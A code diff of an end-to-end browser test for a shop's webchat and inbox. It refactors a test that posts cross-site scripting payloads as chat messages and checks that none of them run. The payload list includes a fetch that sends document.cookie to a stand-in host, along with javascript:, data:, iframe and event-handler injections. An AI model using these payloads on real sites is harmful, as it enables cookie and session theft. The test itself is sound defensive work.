@@ -2,15 +2,16 @@ import type { Page } from "playwright-core";
 import { describe, expect, test } from "vitest";
 import { until } from "#testing/product.ts";
 import type { Conversation } from "#modules/conversations/conversations.contract.ts";
-import { picture, useBrowser } from "./support/browser.ts";
+import { picture, openBrowser } from "./support/browser.ts";
 import { openChat } from "./support/chat.ts";
+import { tracesIn } from "./support/page-scripts.ts";
 import { phonePage, signIn, startShop } from "./support/shop.ts";
 
 const shop = await startShop({ simulator: phonePage });
 if (!shop.sim) throw new Error("The simulator runs.");
 const sim = shop.sim;
 // Whatever a page asks of the stranger's address is a failure: only these two are allowed.
-const browser = useBrowser(shop.url, sim.url);
+const browser = openBrowser(shop.url, sim.url);
 
 const stranger = "https://stranger.example";
 const run = `window.intruder=1;fetch('${stranger}/'+document.cookie)`;
@@ -22,18 +23,14 @@ const attacks = [
   `javascript:${run}`,
   `<iframe srcdoc="<script>parent.intruder=1</script>"></iframe>`,
   `data:text/html,<script>${run}</script>`,
-  `*<b onmouseover="${run}">negrito</b>* _x_ ~y~ \`\`\`${"<img src=x onerror=intruder=1>"}\`\`\``,
+  `*<b onmouseover="${run}">negrito</b>* _x_ ~y~ \`\`\`<img src=x onerror=intruder=1>\`\`\``,
   "https://user:pass@stranger.example/?q=<script> fim",
 ];
 
 /** Nothing ran, nothing was made of the words, no link leads to a script. */
 async function expectInert(page: Page): Promise<void> {
   for (const frame of page.frames()) {
-    const found = await frame.evaluate(() => ({
-      ran: "intruder" in window,
-      made: document.querySelectorAll("img[src='x'], svg[onload], iframe[srcdoc], [onerror], [onload], [onmouseover]").length,
-      links: [...document.querySelectorAll("a[href]")].map((link) => link.getAttribute("href") ?? "").filter((href) => /^\s*(javascript|data|vbscript):/i.test(href)),
-    }));
+    const found = await tracesIn(frame);
     expect(found, page.url()).toEqual({ ran: false, made: 0, links: [] });
   }
   expect(browser.requests().filter((url) => url.startsWith(stranger) || url.endsWith("/x"))).toEqual([]);
@@ -46,7 +43,11 @@ describe("what strangers write stays text", () => {
     const chat = await openChat(visitorPage);
     for (const attack of attacks) {
       await chat.say(attack);
-      await chat.frame.locator(".row.mine .text").filter({ hasText: attack.slice(0, 12) }).last().waitFor();
+      await chat.frame
+        .locator(".row.mine .text")
+        .filter({ hasText: attack.slice(0, 12) })
+        .last()
+        .waitFor();
     }
     await expect.poll(() => chat.frame.getByRole("img", { name: "Aguardando envio" }).count(), { timeout: 15_000 }).toBe(0);
     await chat.frame.locator('input[type="file"]').setInputFiles([
@@ -56,13 +57,19 @@ describe("what strangers write stays text", () => {
     await chat.frame.getByRole("button", { name: "Enviar mensagem" }).click();
     await expectInert(visitorPage);
 
-    const conversation = await until(async () => (await shop.get<{ items: Conversation[] }>("/api/omni/conversations?channel=webchat&limit=1")).items[0]);
+    const conversation = await until(
+      async () => (await shop.get<{ items: Conversation[] }>("/api/omni/conversations?channel=webchat&limit=1")).items[0],
+    );
     const team = await browser.person();
     await signIn(team, shop.url);
     const page = await team.newPage();
     await page.goto(`${shop.url}/inbox/${conversation.id}`);
     const messages = page.getByRole("region", { name: "Conversa", exact: true });
-    await messages.getByRole("article").filter({ hasText: attacks[8]?.slice(0, 20) ?? "" }).first().waitFor();
+    await messages
+      .getByRole("article")
+      .filter({ hasText: attacks[8]?.slice(0, 20) ?? "" })
+      .first()
+      .waitFor();
     await expectInert(page);
     await picture(page, "inbox-attacks");
     // A page that a stranger uploaded is a download, never a page of this origin.
@@ -108,8 +115,15 @@ describe("what strangers write stays text", () => {
 
     const phone = await (await browser.person()).newPage();
     await phone.goto(sim.url);
-    await phone.getByRole("button", { name: name.slice(0, 10) }).first().click();
-    await phone.getByRole("log").getByText(texts[0]?.slice(0, 20) ?? "").first().waitFor();
+    await phone
+      .getByRole("button", { name: name.slice(0, 10) })
+      .first()
+      .click();
+    await phone
+      .getByRole("log")
+      .getByText(texts[0]?.slice(0, 20) ?? "")
+      .first()
+      .waitFor();
     await expectInert(phone);
   });
 });
